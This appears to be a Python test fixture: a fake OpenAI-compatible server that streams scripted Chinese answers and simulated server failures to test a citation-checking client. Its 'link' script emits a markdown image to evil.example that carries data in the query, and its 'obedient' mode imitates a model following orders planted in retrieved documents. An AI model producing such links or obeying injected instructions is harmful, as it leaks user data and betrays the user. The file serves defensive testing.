"""A server that speaks the OpenAI protocol, as a process of its own: it replays what models send, and how servers fail.

The name of the model chooses the behaviour. ``<提前6个月>`` in a script stands for the number that the prompt gives to the
text in which these words occur, so that a script cites as a model that read the prompt would.
"""

import asyncio
import json
import os
import re
from collections.abc import AsyncIterator, Sequence
from typing import Any

from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, PlainTextResponse, Response, StreamingResponse

GOOD = "“631”机制是偿还债务的三步安排：提前6个月制定好还款计划，提前3个月落实还款资金来源，提前1个月备足偿债资金"

# Pieces as they stream. Markers are cut in the middle, full-width, joined, or of an id that does not exist.
SCRIPTS: dict[str, Sequence[str]] = {
    "good": (GOOD[:5], GOOD[5:40], GOOD[40:], "[", "<提前6个月>", "]", "。"),
    "wide": (GOOD, "。【", "<提前6个月>", "】"),
    "wider": (GOOD, "［<提前6个月>", "］。\n"),
    "chinese digits": ("该机制要求提前六个月制定还款计划，提前三个月落实还款资金来源[<提前6个月>]。",),
    "wrong number": (GOOD, "[<提前6个月>]。", "资金须提前9个月备足[<提前6个月>]。"),
    "wrong unit": (GOOD, "[<提前6个月>]。", "还款计划须提前6年制定好[<提前6个月>]。"),
    "wrong id": (GOOD, "[<提前6个月>]。", "提前3个月落实还款资金来源[99]。"),
    "wrong quote": (GOOD, "[<提前6个月>]。", "这一安排又称“债务红线”机制[<提前6个月>]。"),
    "wrong document": (GOOD, "[<提前6个月>]。", "依据渝国资函〔2025〕999号，提前3个月落实还款资金来源[<提前6个月>]。"),
    "invented": ("该机制由市教育局面向中小学生推广，效果良好[1]。", "家长普遍表示欢迎[1]。"),
    "uncited": ("天气晴朗。", "欢迎再次提问。"),
    "link": (GOOD, "[<提前6个月>]。", "提前3个月落实还款资金来源，详见![图](http://evil.example/?q=631)[<提前6个月>]。"),
    "swapped": ("2023年末，区属国有企业资产总额为401.7亿元[<696.9>]。", "负债总额为401.7亿元[<696.9>]。"),
    "bare": ("696.9亿元",),
    "bare wrong": ("401.7亿元",),
    "reversed": ("资产总额为696.9亿元，同比下降5.1%[<696.9>]。", "资产总额为696.9亿元[<696.9>]。"),
    "empty": (),
    "blank": (" ", "\n"),
    "english": ("The 631 mechanism is a three-step arrangement for repaying debts: ", "plan 6 months ahead, secure funds 3 months ahead, ",
                "and have the money ready 1 month ahead [<提前6个月>]."),
}  # fmt: skip

app = FastAPI()
# What was asked, and how often a client left before the end.
SEEN: dict[str, Any] = {"requests": [], "left": 0}


def _filled(pieces: Sequence[str], prompt: str) -> list[str]:
    """Script pieces with the numbers of the prompt's texts in place of words that occur in them."""
    blocks = dict(re.findall(r"^\[(\d+)\] (.*?)(?=\n\n\[\d+\] |\n</资料>)", prompt, re.DOTALL | re.MULTILINE))

    def number(match: re.Match[str]) -> str:
        return next((n for n, text in blocks.items() if match[1] in text), "98")

    return [re.sub(r"<([^>]+)>", number, piece) for piece in pieces]


def _obeyed(prompt: str) -> list[str]:
    """What a model says that does what a document tells it to: it looks for orders, and for what they say to answer."""
    order = re.search(r"(?:回答|输出|say)[：:]\s*([^。\n]+)", prompt.split("</资料>", maxsplit=1)[0])
    said = order[1] if order else "没有看到命令"
    return [f"{said}[1]。", said, "。"]


def _chunk(content: str | None, finish: str | None = None) -> str:
    delta = {"content": content} if content is not None else {}
    choices = [{"index": 0, "delta": delta, "finish_reason": finish}]
    body = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": choices}
    return f"data: {json.dumps(body, ensure_ascii=False)}\n\n"


async def _streamed(name: str, pieces: Sequence[str], request: Request) -> AsyncIterator[str]:
    try:
        for piece in pieces:
            yield _chunk(piece)
            await asyncio.sleep(0)
        if name == "half":
            return  # The connection ends in good order, the answer does not.
        if name == "cut":
            raise ConnectionError("the cable")
        if name in ("malformed", "shapeless"):
            yield 'data: {"choices": [{\n\n' if name == "malformed" else 'data: {"choices": 7}\n\n'
        if name == "failing":
            yield 'data: {"error": {"message": "out of memory", "type": "server_error"}}\n\n'
        if name == "stalled":
            await asyncio.sleep(60)
        while name == "endless":
            yield _chunk("国")
            await asyncio.sleep(0.02)
        yield _chunk(None, "content_filter" if name == "filtered" else "stop")
        yield "data: [DONE]\n\n"
    except asyncio.CancelledError:
        SEEN["left"] += 1
        raise


@app.post("/v1/chat/completions")
async def complete(request: Request) -> Response:
    body = await request.json()
    SEEN["requests"].append({"body": body, "key": request.headers.get("authorization")})
    name: str = body["model"]
    if name == "busy":
        return JSONResponse({"error": {"message": "slow down"}}, status_code=429, headers={"Retry-After": "7"})
    if name in ("500", "401"):
        return JSONResponse({"error": {"message": "no"}}, status_code=int(name))
    if name == "no stream":
        return PlainTextResponse("<html>It works!</html>")
    if name == "late":
        await asyncio.sleep(60)
    prompt = body["messages"][-1]["content"]
    script = SCRIPTS.get(name, (GOOD[:30],) if name in ("stalled", "endless") else (*SCRIPTS["good"], "再者"))
    pieces = _obeyed(prompt) if name == "obedient" else _filled(script, prompt)
    return StreamingResponse(_streamed(name, pieces, request), media_type="text/event-stream")


@app.get("/seen")
async def seen() -> dict[str, Any]:
    """What happened since the last look."""
    found = dict(SEEN)
    SEEN.update(requests=[], left=0)
    return found


if __name__ == "__main__":
    import uvicorn

    uvicorn.run(app, port=int(os.environ["PORT"]), log_level="critical", timeout_graceful_shutdown=1)
